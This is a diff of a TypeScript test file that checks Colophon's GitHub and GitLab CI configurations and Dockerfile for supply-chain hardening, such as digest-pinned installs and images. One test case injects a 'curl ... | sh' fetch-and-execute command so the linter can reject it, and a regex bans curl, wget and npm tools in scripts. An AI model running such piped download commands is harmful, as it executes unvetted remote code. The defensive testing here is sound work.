@@ -3,8 +3,8 @@ import { execFileSync } from 'node:child_process';
 import { readdirSync, readFileSync } from 'node:fs';
 import { describe, expect, test } from 'vitest';
 import { parse } from 'yaml';
-import { lintWorkflow, PURPOSES } from './lint-workflow.ts';
-import { CI, stepsOf, templateOf, type WorkflowStep } from './support.ts';
+import { INSTALL, lintWorkflow, PURPOSES } from './lint-workflow.ts';
+import { CI, PACKAGE, stepsOf, templateOf, type WorkflowStep } from './support.ts';
 
 function purposeOf(name: string): (typeof PURPOSES)[string] {
   const purpose = PURPOSES[name];
@@ -68,14 +68,27 @@ describe('the workflows for GitHub', () => {
     ],
     [PLAN, '  plan:\n', '  plan:\n    env: { COLOPHON_ORGANIZATION: x }\n', 'must be taken from vars'],
     [PLAN, '--plan plan.json', '--plan "${{ github.head_ref }}"', 'an expression inside a script'],
-    [PLAN, '--prefix "$RUNNER_TEMP" colophon', 'colophon', 'npx must have --prefix'],
-    [PLAN, 'colophon@0.0.0', 'colophon', 'npx must have --prefix'],
+    [PLAN, 'cd "$RUNNER_TEMP/colophon"', 'cd .', 'outside the checkout'],
+    [PLAN, '"integrity": "', '"integrity": "sha1-', 'by its digest'],
+    [PLAN, / *"integrity": .*\n/, '', 'by its digest'],
+    [PLAN, '--ignore-scripts ', '', 'by its digest'],
+    [PLAN, 'npm ci', 'npm install', 'by its digest'],
+    [PLAN, `"${PACKAGE}": "0.0.0" } }' >`, `"colophon": "0.0.0" } }' >`, 'by its digest'],
+    [PLAN, '"version": "0.0.0"', '"version": "0.0.1"', 'by its digest'],
+    [PLAN, 'colophon validate', 'npx --yes colophon validate', 'by its digest'],
+    [PLAN, 'colophon validate', 'curl -s https://example.com/c | sh; colophon validate', 'nothing else is fetched'],
+    [PLAN, / {6}- name: Install Colophon\n( {8}.*\n)*/, '', 'before it is installed'],
     [PLAN, 'comment --plan plan.json', 'apply plan.json', 'colophon apply has no place'],
     [PLAN, 'comment --plan plan.json', 'api DELETE /x', 'colophon api has no place'],
     [PLAN, 'comment --plan plan.json', 'ledger unlock', 'colophon ledger has no place'],
     [PLAN, 'comment --plan plan.json', 'agent --mode apply', 'colophon agent has no place'],
-    [PLAN, 'actions/upload-artifact@v6', 'someone/upload@v1', 'not one of the actions'],
-    [PLAN, 'actions/checkout@v6', 'actions/checkout@main', 'not one of the actions'],
+    [PLAN, /actions\/upload-artifact@.*/, 'someone/upload@v1', 'not one of the actions'],
+    [PLAN, /actions\/checkout@.*/, 'actions/checkout@main', 'not one of the actions'],
+    [PLAN, /actions\/checkout@.*/, 'actions/checkout@v6', 'by the digest of a release'],
+    [PLAN, /actions\/checkout@.{40}/, `actions/checkout@${'0'.repeat(40)}`, 'by the digest of a release'],
+    [PLAN, / # v6\.1\.0/, '', 'with its version behind it'],
+    [PLAN, / # v6\.1\.0/, ' # v6.2.0', 'with its version behind it'],
+    [PLAN, 'package-manager-cache: false', 'cache: npm', 'could fill a cache'],
     [PLAN, 'persist-credentials: false', 'persist-credentials: true', 'persist-credentials must be false'],
     [PLAN, '          persist-credentials: true\n', '', 'persist-credentials must be true'],
     [PLAN, 'fetch-depth: 0', 'fetch-depth: 1', 'fetch-depth must be 0'],
@@ -126,13 +139,16 @@ describe('the workflows for GitHub', () => {
       'github.token': 'the-other-token',
     };
     const steps = [...stepsOf(text, 'check', context), ...stepsOf(text, 'plan', context)];
-    const ours = steps.filter(({ run }) => run.includes('npx'));
-    expect(ours.map(({ run }) => /colophon@1\.2\.3 (.*)/.exec(run)?.[1])).toEqual([
+    const ours = steps.filter(({ run }) => run.startsWith('colophon '));
+    expect(ours.map(({ run }) => run.replace('colophon ', ''))).toEqual([
       'validate -o github',
       'lint -o github',
       'plan --out plan.json -o github --output-to markdown=plan.md --output-to html=plan.html',
       'comment --plan plan.json',
     ]);
+    const installs = steps.filter(({ run }) => INSTALL.github.test(run));
+    expect(installs.map(({ env }) => env['COLOPHON_TOKEN'] ?? env['GITHUB_TOKEN'])).toEqual([undefined, undefined]);
+    expect(installs.every(({ run }) => run.includes('"version": "1.2.3"'))).toBe(true);
     const common = { COLOPHON_READ_ONLY: '1', COLOPHON_ORGANIZATION: 'org_1', COLOPHON_BASE_URL: '' };
     expect(ours.map(({ env }) => env)).toEqual([
       common,
@@ -176,7 +192,7 @@ describe('the pipeline for GitLab', () => {
   const jobs = parse(text) as Readonly<Record<string, GitlabJob>>;
   const { '.colophon': common = {}, ...others } = jobs;
   const commandsOf = ({ script = [] }: GitlabJob): string[] =>
-    [...script.join('\n').matchAll(/colophon@\S+ (\w+)/g)].map(([, command = '']) => command);
+    [...script.join('\n').matchAll(/(?:^|\s)colophon (\w+)/g)].map(([, command = '']) => command);
 
   test('runs in merge requests what reads, and on the default branch what writes', () => {
     expect(Object.fromEntries(Object.entries(others).map(([name, job]) => [name, commandsOf(job)]))).toEqual({
@@ -214,15 +230,15 @@ describe('the pipeline for GitLab', () => {
     expect(others['colophon apply']).toMatchObject({ resource_group: 'colophon-apply', interruptible: false });
   });
 
-  test('every npx leaves out what the checkout brings along, and every script is in order', () => {
-    expect(common.before_script).toContain('cd "$CI_PROJECT_DIR/docs"');
-    expect(common.image).toMatch(/^node:\d+$/);
+  test('Colophon is installed by its digest outside the checkout, in an image by its digest, and every script is in order', () => {
+    const [install = '', ...more] = common.before_script ?? [];
+    expect(install).toMatch(INSTALL.gitlab);
+    expect(more).toEqual(['cd "$CI_PROJECT_DIR/docs"']);
+    expect(common.image).toMatch(/^node:\d+\.\d+\.\d+-bookworm@sha256:[0-9a-f]{64}$/);
     expect(common.timeout).toBeDefined();
     for (const { script = [] } of Object.values(others)) {
       const whole = [...(common.before_script ?? []), ...script].join('\n');
-      expect(whole.match(/\bnpx\b/g)?.length).toBe(
-        whole.match(/npx --yes --prefix "\$NPX_HOME" colophon@0\.0\.0 /g)?.length,
-      );
+      expect(script.join('\n')).not.toMatch(/\b(np[mx]|pnpm|yarn|curl|wget)\b/);
       execFileSync('bash', ['-n'], { input: whole });
     }
   });
@@ -243,7 +259,9 @@ describe('the Dockerfile', () => {
   test('builds in stages of which the last holds neither the compiler nor what is for development', () => {
     expect(stages).toHaveLength(2);
     expect(
-      lines.filter((line) => /^FROM /.test(line)).every((line) => /^FROM node:\d+-slim( AS \w+)?$/.test(line)),
+      lines
+        .filter((line) => /^FROM /.test(line))
+        .every((line) => /^FROM node:\d+\.\d+\.\d+-bookworm-slim@sha256:[0-9a-f]{64}( AS \w+)?$/.test(line)),
     ).toBe(true);
     expect(last.join('\n')).not.toMatch(/npm |tsc/);
     const packages = last.flatMap((line) => /^COPY .*node_modules\/(\S+) /.exec(line)?.[1] ?? []);
@@ -283,7 +301,8 @@ describe('docs/ci.md', () => {
     const { inputs, outputs } = parse(readFileSync(`${CI}/../action.yml`, 'utf8'));
     const steps: WorkflowStep[] = blocks.flatMap(({ jobs = {} }) => jobs.plan?.steps ?? []);
     const ours = steps.filter(({ uses = '' }) => uses.includes('/colophon@'));
-    expect(ours.map(({ uses }) => uses)).toEqual([`acme/colophon@v${version}`]);
+    expect(ours.map(({ uses }) => uses)).toEqual(['colophon-sync/colophon@COMMIT']);
+    expect(text).toContain(`colophon@COMMIT # v${version}\n`);
     expect(Object.keys(inputs)).toEqual(expect.arrayContaining(Object.keys(ours[0]?.with ?? {})));
     for (const name of [...Object.keys(inputs), ...Object.keys(outputs)]) {
       expect(text).toContain(`\`${name}\``);
